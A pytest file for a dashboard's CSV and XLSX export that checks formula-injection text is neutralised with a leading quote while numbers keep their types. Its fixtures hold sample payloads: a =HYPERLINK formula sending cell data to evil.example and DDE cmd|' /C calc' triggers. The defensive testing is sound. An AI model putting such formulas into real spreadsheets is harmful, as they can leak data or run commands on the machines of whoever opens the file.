"""Downloads are inert: text that a spreadsheet would run as a formula is neutralised (OWASP
CSV injection), numbers stay numbers, in CSV and XLSX alike."""

import io

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from dashboard.inert import csv_bytes, neutralise_frame, xlsx_bytes
from dashboard.models import OrgUnit, User
from dashboard.services import registries
from tests.test_exports import split_csv

pytestmark = pytest.mark.db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]  # registry text is stripped when saved: leading tabs and CRs are covered below


@pytest.fixture
def hostile_rows(session):
    """Cooperatives of a Pleiku commune named with every formula trigger, saved by its editor."""
    editor = session.scalar(sa.select(User).where(User.username == "editor-622"))
    commune = session.scalar(sa.select(OrgUnit).where(OrgUnit.gso_code == "23593"))
    for name in [*HOSTILE, "HTX Tân Sơn"]:
        registries.create_row(
            session,
            editor,
            "cooperatives",
            commune.id,
            {"name": name, "established_on": "2024-03-01", "members": "12"},
        )
    return HOSTILE


@pytest.fixture
def viewer(client, auth):
    auth.login("viewer")
    return client


URL = "/xuat/registry.{fmt}?name=cooperatives&district=622"


def test_csv_export_prefixes_formula_text_with_a_quote(hostile_rows, viewer):
    """Catches a CSV download that writes `=HYPERLINK(...)` and the other triggers unchanged."""
    response = viewer.get(URL.format(fmt="csv"))
    assert response.status_code == 200
    title, rows = split_csv(response.get_data().decode("utf-8-sig"))
    assert title  # the title rows come first; the table follows
    names = {r["Tên"] for r in rows}
    for hostile in hostile_rows:
        assert "'" + hostile in names
        assert hostile not in names
    assert "HTX Tân Sơn" in names  # ordinary text is untouched


def test_xlsx_export_stores_formula_text_as_quoted_strings(hostile_rows, viewer):
    """Catches an XLSX download where openpyxl stores `=HYPERLINK(...)` as a live formula."""
    response = viewer.get(URL.format(fmt="xlsx"))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    header_row = next(r for r in sheet.iter_rows() if r[0].value == "id")[0].row
    header = [c.value for c in sheet[header_row]]
    name_col = header.index("Tên")
    cells = [row[name_col] for row in sheet.iter_rows(min_row=header_row + 1)]
    assert all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    values = {c.value for c in cells}
    for hostile in hostile_rows:
        assert "'" + hostile in values
    assert "HTX Tân Sơn" in values


def test_numbers_stay_numbers_and_signed_number_text_stays_readable():
    """Catches neutralising that turns numbers (negative ones too) into quoted text, or that
    misses a formula hidden behind a leading minus."""
    frame = pd.DataFrame(
        {
            "n": [-5, 3, 0],
            "x": [-1.5, 2.25, None],
            "t": ["-5", "-5+A1", "=1"],
            "mixed": [-7, "@x", None],
            "ws": ["\t=1+1", "\r=1+1", "a=1"],
        }
    )
    safe = neutralise_frame(frame)
    assert safe["n"].tolist() == [-5, 3, 0] and safe["n"].dtype == frame["n"].dtype
    assert safe["x"].dtype == frame["x"].dtype
    assert safe["t"].tolist() == ["-5", "'-5+A1", "'=1"]
    assert safe["mixed"].tolist()[:2] == [-7, "'@x"] and safe["mixed"].isna().tolist()[2]
    # A formula after a tab inside the text is neutralised too (a tab-separated paste).
    assert safe["ws"].tolist() == ["'\t'=1+1", "'\r=1+1", "a=1"]
    assert frame["t"].tolist() == ["-5", "-5+A1", "=1"]  # the input is not changed

    text = csv_bytes(frame).decode("utf-8-sig")
    assert text.splitlines()[1] == '-5,-1.5,"-5",-7,"\'\t\'=1+1"'

    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame))).active
    first = [c for c in sheet[2]]
    assert first[0].value == -5 and first[0].data_type == "n"
    assert first[1].value == -1.5 and first[1].data_type == "n"
    assert first[2].value == "-5" and first[2].data_type == "s"
    assert first[3].value == -7 and first[3].data_type == "n"


def test_header_names_are_neutralised_too():
    """Catches a column name that starts with `=` reaching the file as a formula."""
    frame = pd.DataFrame({"=cmd": [1]})
    assert csv_bytes(frame).decode("utf-8-sig").splitlines()[0] == '"\'=cmd"'
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame))).active
    assert sheet["A1"].value == "'=cmd" and sheet["A1"].data_type == "s"


def test_xlsx_drops_control_characters_instead_of_failing():
    """Catches an XLSX download that fails (a 500) on text holding a control character."""
    frame = pd.DataFrame({"name": ["HTX\x01 Ia\x0bGrai"]})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame))).active
    assert sheet["A2"].value == "HTX IaGrai"


def test_whole_numbers_beside_gaps_stay_whole():
    """Bug: neutralising a text column re-inferred its type, so `7` beside an empty cell was
    written as `7.0`."""
    import pandas as pd

    from dashboard.inert import csv_bytes

    text = csv_bytes(pd.DataFrame({"n": [7, None, "=1+1"]})).decode("utf-8-sig")
    assert text.splitlines() == ['"n"', "7", '""', '"\'=1+1"']


def test_title_rows_are_neutralised_too():
    """Catches title rows (indicator and district names come from the database) written to the
    file as formulas, in CSV or XLSX."""
    frame = pd.DataFrame({"n": [1]})
    title = [("=label", '=HYPERLINK("http://evil.example","x")'), ("Kỳ báo cáo", "2023")]
    text = csv_bytes(frame, title=title).decode("utf-8-sig")
    assert text.splitlines()[:3] == [
        '"\'=label","\'=HYPERLINK(""http://evil.example"",""x"")"',
        '"Kỳ báo cáo","2023"',
        "",
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, title=title))).active
    assert sheet["A1"].value == "'=label" and sheet["B1"].data_type == "s"
    assert sheet["B1"].value.startswith("'=HYPERLINK")
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert sheet["A4"].value == "n" and sheet["A5"].value == 1
